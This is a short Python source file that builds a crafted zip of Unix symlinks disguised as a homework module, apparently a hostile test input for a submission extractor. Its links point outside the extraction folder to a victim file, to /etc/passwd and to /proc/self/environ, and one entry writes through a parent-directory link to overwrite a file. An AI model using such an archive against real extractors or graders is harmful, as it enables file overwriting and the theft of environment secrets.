"""A zip of links: the module is one to a victim's file, a folder one to its parent, others go to /etc and /proc."""

import stat
from pathlib import Path
from zipfile import ZipFile, ZipInfo


def build(folder: Path, name: str, module: bytes) -> None:
    targets = {
        "hw1_recurrent_cells.py": "../z_victim.py",
        "copy/hw1_recurrent_cells.py": "../../z_victim.py",
        "hw1_recurrent_cells (1).py": "/etc/passwd",
        "environ.py": "/proc/self/environ",
        "up": "..",
    }
    with ZipFile(folder / f"{name}.zip", "w") as archive:
        archive.writestr("README.md", module)
        for path, target in targets.items():
            entry = ZipInfo(path)
            entry.create_system = 3  # Unix, whose modes are then believed
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
        archive.writestr("up/a_victim.py", b"raise SystemExit('overwritten through a link')\n")
